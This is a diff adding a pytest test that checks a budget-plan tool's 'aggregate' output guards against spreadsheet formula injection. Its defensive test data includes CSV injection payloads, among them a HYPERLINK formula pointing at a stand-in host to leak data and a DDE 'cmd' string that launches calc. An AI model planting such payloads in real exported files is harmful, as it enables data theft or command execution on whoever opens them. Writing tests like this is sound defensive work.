@@ -174,6 +174,32 @@ def test_convert_neutralizes_formulas_but_keeps_amounts_numbers(hostile_plan, tm
         assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c
 
 
+@pytest.mark.parametrize("by", ["funder", "line", "axis"])
+def test_aggregate_s_plan_listing_guards_formulas_and_keeps_each_label_on_its_row(
+        tmp_path, capsys, by):
+    # `essconv aggregate PLAN --by funder > sums.tsv`: the label<TAB>sum listing wrote its keys
+    # raw, so a funder "=HYPERLINK(...)", a line "+cmd|...", "-2+3+cmd" or an axis "@SUM(A1)"
+    # ran as a formula once opened in a spreadsheet -- where `convert --to tsv` guards them
+    import csv
+    import io
+    # a funder holding a tab, a line a line break: each stays on its own row of two cells
+    plan = tmp_path / "plan-hostile.csv"
+    plan.write_text(HOSTILE_TSV.replace(";", ",").replace("\t", ";")
+                    .replace("CR;Total", '"C\tR";Total').replace("\n;-2+3", '\n;"-2+3\nx"'),
+                    encoding="utf-8")
+    assert main(["aggregate", str(plan), "--by", by]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out), delimiter="\t"))
+    assert rows[0][0].startswith("#") and all(len(row) == 2 for row in rows[1:]), rows
+    keys = [row[0] for row in rows[1:]]
+    guarded = {"funder": ['\'=HYPERLINK("http://x.example/?leak")'],
+               "line": ["'+cmd|' /C calc'!A0"],
+               "axis": ["'@SUM(A1)"]}[by]
+    assert all(g in keys for g in guarded), keys
+    for key in keys:                               # nothing a spreadsheet would run
+        assert not key.startswith(("=", "+", "@", "\t", "\r")), key
+        assert not key.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", key), key
+
+
 def test_convert_keeps_an_english_plans_negative_amounts_numbers(tmp_path):
     # a plan read with decimal="." prints "-1,000.25": only the French reading was tried, so
     # the guard took it for text and wrote "'-1,000.25", which a spreadsheet shows as text and
